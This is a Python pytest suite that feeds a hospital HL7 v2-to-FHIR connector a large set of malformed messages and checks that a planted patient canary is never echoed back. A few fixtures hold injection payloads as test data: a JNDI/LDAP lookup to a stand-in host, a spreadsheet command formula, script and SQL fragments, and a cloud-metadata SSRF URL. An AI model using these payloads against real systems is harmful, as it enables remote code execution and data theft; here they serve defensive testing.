"""The zoo of awkward HL7 v2: each message is wrong or odd in one way, and most carry a value that must never be said back."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import suppress
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from connectors.hospital_hl7v2 import connector
from schemas.fhir.build import digest_of
from schemas.fhir.check import check, unresolved_references
from schemas.hl7v2 import split
from schemas.messages import Committed, InboundMessage, NotStored, Translation
from schemas.profile import Profile
from schemas.rejection import Issue, Reason, Rejected

CANARY = "Gwdihwzzcanary"
MSH = r"MSH|^~\&|WPAS|7A3|SPHUB|SPHUB|20260302090000||REF^I12^REF_I12|C1|P|2.4||||||UNICODE UTF-8"
RF1 = "RF1|P|R|SP^Social prescribing^L|||R1|20260302"
PID = f"PID|1||9990000018^^^NHS^NH||{CANARY}^PERSON||19500101|F|||1 STRYD FAWR^^ABERTAWE^^SA1 1AA"
AGREED = Profile(organisation_type="hospital", triggers=("SP", "ZSP-1"), dialect=("letters", "pv1-shifted", "rf1-shifted", "ward"))
NOW = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)


def lines(*segments: str, msh: str = MSH) -> bytes:
    return "".join(f"{segment}\r" for segment in (msh, *segments)).encode()


def adt(event: str, *segments: str) -> bytes:
    return lines(*segments, msh=MSH.replace("REF^I12^REF_I12", f"ADT^{event}"))


def pid(**fields: str) -> str:
    """PID with fields of other content: `pid(f7="x")`."""
    parts = PID.split("|") + [""] * 30
    for name, value in fields.items():
        parts[int(name[1:])] = value
    return "|".join(parts)


def pv1(**fields: str) -> str:
    parts = ["PV1"] + [""] * 50
    for name, value in fields.items():
        parts[int(name[1:])] = value
    return "|".join(parts)


def letter(*segments: str, event: str = "T02") -> bytes:
    return lines(PID, *segments, msh=MSH.replace("REF^I12^REF_I12", f"MDM^{event}"))


WHOLE = lines(RF1, PID)

FRAMING: dict[str, bytes] = {
    "nothing (A12)": b"",
    "line ends only": b"\r\r\n\r",
    "blanks only": b"   ",
    "another protocol": b"GET /fhir HTTP/1.1\r\nHost: " + CANARY.encode(),
    "JSON": b'{"resourceType": "ServiceRequest"}',
    "binary": bytes(range(256)) * 4,
    "a batch (A15)": b"FHS|^~\\&|" + CANARY.encode() + b"\rBHS|^~\\&|A\r" + WHOLE + b"BTS|1\rFTS|1\r",
    "a batch without its file": b"BHS|^~\\&|A\r" + WHOLE,
    "two messages in one": WHOLE + WHOLE,
    "MSH alone": b"MSH",
    "MSH and a separator": b"MSH|",
    "cut within MSH": WHOLE[:40],
    "cut within PID": WHOLE[:-30],
    "cut at every field": WHOLE.replace(b"\r", b"", 1),
    "separators that are letters (B6)": WHOLE.replace(b"|", b"a"),
    "separators that are doubled (B6)": WHOLE.replace(rb"^~\&", rb"^^\&", 1),
    "separators that are missing": WHOLE.replace(rb"^~\&", b"", 1),
    "other separators (B6)": WHOLE.translate(bytes.maketrans(b"|^~", b"#~^")),
    "the fifth separator (B8)": WHOLE.replace(rb"^~\&", rb"^~\&#", 1),
    "LF (B7)": WHOLE.replace(b"\r", b"\n"),
    "CRLF (B7)": WHOLE.replace(b"\r", b"\r\n"),
    "CR doubled (B7)": WHOLE.replace(b"\r", b"\r\r"),
    "20,000 segments (B16)": lines(RF1, PID, *["NTE|1||x"] * 20_000),
    "20,000 repetitions (B16)": lines(RF1, pid(f3="~".join(["1^^^A"] * 20_000))),
    "100,000 carets (B16)": lines(RF1, pid(f5="^" * 100_000)),
    "500 segments": lines(RF1, PID, *[f"DG1|{n}||{n}^x^SCT" for n in range(497)]),
    "50 repetitions everywhere": lines(RF1, pid(f3="~".join(f"{n}^^^A" for n in range(50)), f5="~".join(["A^B"] * 50), f13="~".join(["07700900000"] * 50))),
    "a document of half a megabyte (B17)": lines(RF1, PID, "OBX|1|ED|PDF^Letter^L||^application^pdf^Base64^" + "QUJD" * 170_000),
    "a document over the limit (B17)": lines(RF1, PID, "OBX|1|ED|PDF^Letter^L||^application^pdf^Base64^" + "QUJD" * 300_000),
    "segments in any order": lines(PID, "PV1|1|I", RF1, "NTE|1||x", "PD1|||^^W98765"),
    "an unknown segment (B13)": lines(RF1, PID, f"ZSP|{CANARY}|Y"),
    "a text broken by CR": lines(RF1, PID, "NTE|1||one", "two"),
    "a name broken by CR": lines(RF1, PID, CANARY),
}
CHARSETS: dict[str, bytes] = {
    "Latin-1 under UTF-8 (B1)": WHOLE.replace(b"PERSON", b"P\xc9RSON"),
    "UTF-8 under 8859/1 (B1)": lines(RF1, PID, "NTE|1||ŵ ŷ", msh=MSH.replace("UNICODE UTF-8", "8859/1")),
    "Windows-1252, nothing declared (B2)": lines(RF1, PID, msh=MSH.replace("UNICODE UTF-8", "")).replace(b"PERSON", b"O\x92NEIL"),
    "Welsh letters (B3)": lines(RF1, pid(f5="Ŵŷn^Siân")),
    "an unknown character set": lines(RF1, PID, msh=MSH.replace("UNICODE UTF-8", CANARY)).replace(b"PERSON", b"P\xc9RSON"),
    "a cut UTF-8 letter": WHOLE.replace(b"PERSON", b"PERS\xc5"),
    "an overlong UTF-8 form": WHOLE.replace(b"PERSON", b"\xc0\xaf"),
    "NUL": WHOLE.replace(b"PERSON", b"PER\x00SON"),
    "bells and escapes": WHOLE.replace(b"PERSON", b"\x07\x1b[31mRED"),
    "right to left, zero width, line separators": lines(RF1, pid(f5="\u202e\u200b\u2028\u2029\ufeff^\u00a0"), "NTE|1||\u2028\u2029"),
    "only odd blanks": lines("RF1|\u3000|\u3000|\u3000^\u3000|||\u3000|\u3000", pid(f5="\u3000^\u2028", f11="\u3000^\u2003", f13="\u3000", f15="\u3000")),
    "every escape (B5)": lines(RF1, PID, r"NTE|1||\F\\S\\T\\R\\E\\X0D\\X41\\.br\\H\x\N\\.sp3\\C2842\\Zx\ "),
    "an escape that never ends (B5)": lines(RF1, PID, "NTE|1||50% \\ of", "OBX|1|FT|x||\\X"),
    "a hundred thousand escapes": lines(RF1, PID, "NTE|1||" + "\\X41\\" * 100_000),
    "escapes that make NUL": lines(RF1, PID, "NTE|1||\\X00\\\\X0B\\"),
    "look-ups, formulas, markup (B19)": lines(RF1, PID, f"NTE|1||<script>{CANARY}</script>${{jndi:ldap://a.example/b}} =cmd|' /c calc'!A0 '; DROP TABLE"),
}
HEADERS: dict[str, bytes] = {
    "no control id (B9)": WHOLE.replace(b"|C1|", b"||"),
    "control id null": WHOLE.replace(b"|C1|", b'|""|'),
    "control id of 300": WHOLE.replace(b"|C1|", b"|" + b"9" * 300 + b"|"),
    "control id of separators": WHOLE.replace(b"|C1|", b"|^~&|"),
    "no type": WHOLE.replace(b"REF^I12^REF_I12", b""),
    "an unknown type (B12)": WHOLE.replace(b"REF^I12^REF_I12", b"ZZZ^Z99"),
    "a type that is a name": WHOLE.replace(b"REF^I12^REF_I12", CANARY.encode()),
    "a type in small letters": WHOLE.replace(b"REF^I12^REF_I12", b"ref^i12"),
    "SIU": WHOLE.replace(b"REF^I12^REF_I12", b"SIU^S12"),
    "ORU": WHOLE.replace(b"REF^I12^REF_I12", b"ORU^R01^ORU_R01"),
    "an acknowledgement": WHOLE.replace(b"REF^I12^REF_I12", b"ACK^I12"),
    "REF without an event": WHOLE.replace(b"REF^I12^REF_I12", b"REF"),
    "REF^I13": WHOLE.replace(b"REF^I12^REF_I12", b"REF^I13"),
    "REF^I14": WHOLE.replace(b"REF^I12^REF_I12", b"REF^I14"),
    "REF^I14 of names": lines("RF1|" + "|".join([CANARY] * 11), PID, msh=MSH.replace("REF^I12^REF_I12", "REF^I14")),
    "REF^I14 without anything": lines(msh=MSH.replace("REF^I12^REF_I12", "REF^I14")),
    "REF^I13 without anything": lines(msh=MSH.replace("REF^I12^REF_I12", "REF^I13")),
    "REF^I99": WHOLE.replace(b"REF^I12^REF_I12", b"REF^I99"),
    "RRI": WHOLE.replace(b"REF^I12^REF_I12", b"RRI^I12"),
    "ORM": WHOLE.replace(b"REF^I12^REF_I12", b"ORM^O01"),
    "REF^I15": WHOLE.replace(b"REF^I12^REF_I12", b"REF^I15"),
    "ADT without an event": adt("", PID),
    "ADT^A99": adt("A99", PID),
    "ADT of an event that is a name": adt(CANARY, PID),
    "version 3": WHOLE.replace(b"|2.4|", b"|3.0|"),
    "a version that is a name": WHOLE.replace(b"|2.4|", b"|" + CANARY.encode() + b"|"),
    "no version": WHOLE.replace(b"|2.4|", b"||"),
    "everything missing": lines(msh=r"MSH|^~\&"),
    "asks for no answer": lines(RF1, PID, msh=MSH.replace("|2.4||||||", "|2.4|||NE|NE||")),
    "asks for an answer nobody knows": lines(RF1, PID, msh=MSH.replace("|2.4||||||", f"|2.4|||{CANARY}|x||")),
}
CONTENT: dict[str, bytes] = {
    "no PID": lines(RF1),
    "an empty PID": lines(RF1, "PID"),
    "two persons": lines(RF1, PID, PID),
    "nobody known": lines(RF1, f"PID|1||||{CANARY}"),
    "a local number of nobody's (who is enough)": lines(RF1, "PID|1||777^^^^PI"),
    "two NHS numbers (B14)": lines(RF1, pid(f3="9990000018^^^NHS^NH~9990000069^^^NHS^NH")),
    "one NHS number twice (B14)": lines(RF1, pid(f3="9990000018^^^NHS^NH~999 000 0018^^^^NHS")),
    "NHS number fails (D1)": lines(RF1, pid(f3="9990000019^^^NHS^NH")),
    "NHS number of one digit (D2)": lines(RF1, pid(f3="1111111111^^^NHS^NH")),
    "NHS number in full width (D3)": lines(RF1, pid(f3="９９９００００１８^^^NHS^NH")),
    "NHS number of eleven digits (D3)": lines(RF1, pid(f3="99900000180^^^NHS^NH")),
    "NHS number in letters": lines(RF1, pid(f3=f"{CANARY}^^^NHS^NH")),
    "no NHS number (D4)": lines(RF1, pid(f3="")),
    "a number of authority with colons and blanks": lines(RF1, pid(f3="7^^^a:b c&1.2&ISO^x:y")),
    "null everywhere (B15)": lines(RF1, pid(**{f"f{n}": '""' for n in (3, 5, 7, 8, 11, 13, 15, 29, 30)})),
    "null in RF1": lines("RF1|" + "|".join(['""'] * 11), PID),
    "born on 30 February (B18)": lines(RF1, pid(f7="19000230")),
    "born in the future (B18)": lines(RF1, pid(f7="20990101")),
    "born with a bad offset (B18)": lines(RF1, pid(f7="19500101120000+9999")),
    "born in the year 0": lines(RF1, pid(f7="00000101")),
    "born as a name": lines(RF1, pid(f7=CANARY)),
    "sex unheard of": lines(RF1, pid(f8=CANARY)),
    "language unheard of": lines(RF1, pid(f15=CANARY)),
    "death that is no date": lines(RF1, pid(f29=CANARY)),
    "death in 30 of another kind": lines(RF1, pid(f30=CANARY)),
    "a postcode outside Wales (D8)": lines(RF1, pid(f11="^^^^BF1 2AA")),
    "subcomponents everywhere": lines(RF1, pid(f3="1&2&3^4&5^^A&B&C^D&E", f5="A&B^C&D", f11="a&b&c^^^^SA1&x", f13="1&2")),
    "RF1 twice": lines(RF1, RF1.replace("R1", "R2"), PID),
    "RF1 of names": lines("RF1|" + "|".join([CANARY] * 11), PID),
    "RF1 of carets": lines("RF1|" + "|".join(["^^^^"] * 11), PID),
    "reasons of every kind": lines(RF1 + "|||P^Patient preference^HL70336~422650009^Isolation^SCT~^just words~X~^^SCT", PID),
    "another service": lines(RF1.replace("SP^Social prescribing^L", "320^Cardiology"), PID),
    "providers of every kind": lines(RF1, "PRD", "PRD|RP", "PRD|RP~RT|A^B|C|D^E^F^G", "PRD|RT|^^^", f"PRD|{CANARY}|x", "PRD|RT|Name^Given|||||77^GMC", PID),
    "diagnoses of every kind": lines(RF1, PID, "DG1", "DG1|1||^^", "DG1|2||  ^ ^SCT", 'DG1|3||""', "DG1|4|||words", "DG1|5||a  b\tc^d^e^f^g^h"),
    "findings of every kind": lines(
        RF1, PID, "OBX", "OBX|1|NM|a||7", "OBX|2|CE|a||b^c^SCT", "OBX|3|FT|||x", "OBX|4|XX|a||y", 'OBX|5|ST|a||""', "OBX|6|CE|a||", "OBX|7|ST|a||a~b~c||||||W"
    ),
    "consents of every kind": lines(
        RF1, PID, "OBX|1|ST|CONSENT-COMMUNITY||maybe", "OBX|2|ST|CONSENT-COMMUNITY||", "OBX|3|ST|CONSENT-DIRECT-CARE||Y", "OBX|4|ST|x^caniatâd i rannu||na"
    ),
    "notes without words": lines(RF1, PID, "NTE", "NTE|1", "NTE|1||", 'NTE|1||""', "NTE|1||~~~"),
    "a merge of nobody (B20)": adt("A40", PID, "MRG"),
    "a merge without MRG (B20)": adt("A40", PID),
    "a merge with itself (B20)": adt("A40", PID, "MRG|9990000018^^^NHS^NH"),
    "a merge of two pairs (B20)": adt("A40", PID, "MRG|1^^^A", PID, "MRG|2^^^A"),
    "a stay of names": adt("A03", PID, pv1(**{f"f{n}": CANARY for n in range(1, 50)})),
    "a stay of carets": adt("A03", PID, pv1(**{f"f{n}": "^^^" for n in range(1, 50)})),
    "a stay of nulls": adt("A03", PID, pv1(**{f"f{n}": '""' for n in range(1, 50)})),
    "a stay of the wrong dates": adt("A03", PID, pv1(f2="I", f44="20260231", f45="19000101", f46="20260301")),
    "a stay that ends in the year 9999": adt("A03", PID, pv1(f2="I", f44="99991231235959+1400", f45="00010101")),
    "a discharge without a stay": adt("A03", PID),
    "a discharge of nobody": adt("A03"),
    "details of nobody": adt("A08", "EVN"),
    "a ward that writes nothing but a date": lines(RF1, PID, "PV2|||||||||20990101"),
    "a ward with dates of every kind": lines(RF1, PID, pv1(f2="I", f44="x"), "PV2|||||||||2099^x~20991301"),
    "a ward that expects somebody in the year 9999": lines(RF1, PID, pv1(f2="I"), "PV2|||||||||99991231"),
    "triggers everywhere": adt("A03", PID, pv1(f36="19"), *[f"OBX|{n}|CE|SP||Y" for n in range(1, 200)], "OBX|1|CE|CONSENT-DIRECT-CARE||Y", "ZSP|Y"),
    "a trigger of names": adt("A03", PID, pv1(f36=CANARY), f"OBX|1|CE|SP||Y^{CANARY}", f"OBX|2|CE|CONSENT-DIRECT-CARE^{CANARY}||Y"),
    "a trigger deleted": adt("A03", PID, pv1(f36="19"), "OBX|1|CE|SP||Y||||||D", "OBX|2|CE|CONSENT-DIRECT-CARE||Y"),
}
LETTERS: dict[str, bytes] = {
    "a letter": letter("TXA|1|CN|TX|20260301||||||||D1", f"OBX|1|TX|||{CANARY} is lonely"),
    "a letter without a word": letter("TXA|1"),
    "a letter without TXA": letter("OBX|1|TX|||lonely"),
    "a letter of nobody": lines("TXA|1", "OBX|1|TX|||lonely", msh=MSH.replace("REF^I12^REF_I12", "MDM^T02")),
    "a letter in PDF": letter("TXA|1|||||||||||D1", "OBX|1|ED|||^application^pdf^Base64^" + "QUJD" * 100_000),
    "a letter in broken Base64": letter("TXA|1|||||||||||D1", f"OBX|1|ED|||^text^plain^Base64^{CANARY}="),
    "a letter that is a pointer": letter("TXA|1|||||||||||D1", "OBX|1|RP|||http://169.254.169.254/latest^^^text"),
    "a letter of names": letter("TXA|" + "|".join([CANARY] * 20), "OBX|1|TX|||lonely"),
    "a letter of carets": letter("TXA|" + "|".join(["^^^"] * 23), "OBX|" + "|".join(["^^^"] * 20)),
    "a letter withdrawn": letter("TXA|1|||||||||||D1", event="T11"),
    "a letter withdrawn, but which": letter("TXA|1", event="T11"),
    "a letter corrected, but which": letter("OBX|1|TX|||lonely", event="T08"),
    "a letter of an event that nobody knows": letter("TXA|1", event=CANARY),
}
ZOO = FRAMING | CHARSETS | HEADERS | CONTENT | LETTERS


def inbound(body: bytes) -> InboundMessage:
    return InboundMessage(body, "mllp", received_at=NOW, client="ward", profile=AGREED)


def outcome_of(body: bytes) -> Translation | Rejected:
    """What translate makes of it. Anything that is raised but Rejected fails the test."""
    try:
        connector.identify(inbound(body))
        return connector.translate(inbound(body))
    except Rejected as fault:
        return fault


def issues_of(found: Translation | Rejected) -> Iterator[Issue]:
    yield from found.issues if isinstance(found, Rejected) else found.warnings


@pytest.mark.parametrize("body", ZOO.values(), ids=ZOO.keys())
def test_an_awkward_message_is_read_or_refused_and_never_said_back(body: bytes) -> None:
    found = outcome_of(body)
    assert isinstance(found, Translation) or found.issues
    for issue in issues_of(found):
        assert issue.text.en != issue.text.cy
        assert CANARY not in issue.text.en + issue.text.cy + issue.at
        assert "9990000" not in issue.text.en + issue.text.cy + issue.at
    if isinstance(found, Rejected):
        assert CANARY not in str(found)


@pytest.mark.parametrize("body", ZOO.values(), ids=ZOO.keys())
def test_what_is_made_of_an_awkward_message_is_sound_fhir(body: bytes) -> None:
    found = outcome_of(body)
    for fact in found.facts if isinstance(found, Translation) else ():
        assert check(fact.bundle) == ()
        assert unresolved_references(fact.bundle) == ()


@pytest.mark.parametrize("body", ZOO.values(), ids=ZOO.keys())
def test_every_awkward_message_can_be_answered(body: bytes) -> None:
    found = outcome_of(body)
    outcomes = [NotStored(), found if isinstance(found, Rejected) else Committed((), found.warnings)]
    for outcome in outcomes:
        for part in connector.answer(inbound(body), outcome).parts:
            assert split(part).first("MSA").component(1) in ("AA", "AE", "AR", "CA", "CE", "CR")
            assert CANARY not in split(part).first("MSA").field(3).text


def test_the_zoo_is_large() -> None:
    assert len(ZOO) >= 140


@pytest.mark.parametrize("kind", ["REF^I12", "REF^I13", "REF^I14", "REF^I15", "RRI^I12", "MDM^T02", "ADT^A03", "ADT^A40", "SIU^S12", "ORU^R01"])
@pytest.mark.parametrize("flood", ["NTE|1||x", "OBX|1|FT|SP||Y", "PID|1||1^^^A"])
def test_twenty_thousand_segments_are_refused_before_they_are_split(kind: str, flood: str) -> None:
    """B16. The cap is one count over the bytes: what is beyond it is never turned into text, whatever the message is (`Caps.segments`)."""
    body = lines(RF1, PID, *[flood] * 20_000, msh=MSH.replace("REF^I12^REF_I12", kind))
    found = outcome_of(body)
    assert isinstance(found, Rejected)
    assert found.reason is Reason.TOO_LARGE


NAMES = ["RF1", "PRD", "PID", "PD1", "DG1", "OBR", "OBX", "NTE", "PV1", "PV2", "MRG", "EVN", "TXA", "ZSP"]
FIELD = st.text(alphabet=st.sampled_from("^~\\&\"'0123456789ABYŵ \n\u2028-+.:"), max_size=30)


@given(
    st.lists(st.tuples(st.sampled_from(NAMES), st.lists(FIELD, max_size=40)), max_size=8)
)
def test_any_fields_in_any_segments_are_read_or_refused(segments: list[tuple[str, list[str]]]) -> None:
    written = ["|".join([name, *fields]) for name, fields in segments]
    of_somebody = lines(PID, *(one for one in written if not one.startswith("PID")))
    for body in (of_somebody, adt("A03", *written), adt("A40", *written), lines(*written), letter(*written)):
        found = outcome_of(body)
        for fact in found.facts if isinstance(found, Translation) else ():
            assert check(fact.bundle) == ()


@given(st.binary(max_size=400))
def test_any_bytes_are_read_or_refused(body: bytes) -> None:
    for candidate in (body, b"MSH|^~\\&|" + body, WHOLE + body):
        found = outcome_of(candidate)
        with suppress(Rejected):
            assert connector.answer(inbound(candidate), found if isinstance(found, Rejected) else Committed(())).content_type


def test_a_message_is_hashed_once_however_many_resources_it_names(monkeypatch: pytest.MonkeyPatch) -> None:
    hashed: list[int] = []

    def counted(body: bytes) -> str:
        hashed.append(len(body))
        return digest_of(body)

    monkeypatch.setattr("connectors.hospital_hl7v2.source.digest_of", counted)
    needs = [f"DG1|{number}||" + "~".join(f"{code}^need {code}^L" for code in range(40)) for number in range(50)]
    found = connector.translate(inbound(lines(RF1, PID, *needs)))
    assert len(found.facts[0].bundle["entry"]) > 2_000
    assert len(hashed) == 1, "else the time grows with size times resources"
